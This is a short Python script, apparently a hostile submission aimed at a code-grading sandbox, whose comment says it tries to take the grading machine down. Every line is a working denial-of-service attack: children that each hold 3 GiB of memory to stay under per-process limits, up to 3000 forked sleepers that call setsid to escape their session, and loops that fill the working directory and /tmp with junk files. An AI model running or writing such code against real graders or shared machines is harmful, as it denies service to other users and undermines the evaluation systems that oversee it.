# Tries to take the grading machine down from inside the kernel: children that will hold memory together (under
# the per-process limit each), sleeping processes as many as it can, escaping into sessions of their own, and
# the disk filled wherever it can write.
import os, time
import numpy as np
CANARY = "CANARY"
for _ in range(8):
    if os.fork() == 0:
        time.sleep(3)
        block = np.ones(3 << 27)  # 3 GiB each, touched
        time.sleep(3600 + block[0])
        os._exit(0)
for _ in range(3000):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
    except OSError:
        break
chunk = b"\0" * (1 << 20)
for base in (os.getcwd(), "/tmp", os.path.dirname(CANARY)):
    for i in range(300):
        try:
            with open(os.path.join(base, f"fill-{i}.bin"), "wb") as f:
                for _ in range(60):
                    f.write(chunk)
        except OSError:
            break
time.sleep(3600)
